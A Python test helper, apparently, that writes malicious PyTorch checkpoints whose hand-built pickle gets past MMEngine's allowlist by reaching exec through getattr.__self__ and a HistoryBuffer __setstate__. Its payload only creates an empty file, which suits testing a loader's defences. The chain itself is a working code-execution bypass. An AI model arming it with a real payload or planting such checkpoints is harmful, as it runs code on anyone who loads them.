"""Checkpoints as an attacker writes them; their payload makes an empty file."""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from pathlib import Path

import torch


def text(value: str) -> bytes:
    raw = value.encode()
    return pickle.BINUNICODE + struct.pack("<I", len(raw)) + raw


def name(module: str, attribute: str) -> bytes:
    return pickle.GLOBAL + f"{module}\n{attribute}\n".encode()


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + pickle.MARK + b"".join(arguments) + pickle.TUPLE + pickle.REDUCE


def reach_exec(trace: Path) -> bytes:
    """Through MMEngine's list of allowed names: ``getattr.__self__`` is the module of all builtins.

    ``exec`` becomes the ``__setstate__`` of an instance, and the next BUILD calls it.
    """
    get = name("__builtin__", "getattr")
    run = call(get, call(get, get, text("__self__")), text("exec"))
    buffer = name("mmengine.logging.history_buffer", "HistoryBuffer") + pickle.EMPTY_TUPLE + pickle.NEWOBJ
    state = pickle.EMPTY_DICT + text("__setstate__") + run + pickle.SETITEM
    code = text(f"open({str(trace)!r}, 'w').close()")
    return pickle.PROTO + b"\x02" + buffer + state + pickle.BUILD + code + pickle.BUILD + pickle.STOP


def write_archive(path: Path, pickled: bytes) -> Path:
    """Around a pickle, what torch.save writes."""
    whole = io.BytesIO()
    torch.save({}, whole)
    with zipfile.ZipFile(whole) as old, zipfile.ZipFile(path, "w") as new:
        for record in old.infolist():
            is_pickle = record.filename.endswith("data.pkl")
            new.writestr(record.filename, pickled if is_pickle else old.read(record))
    return path
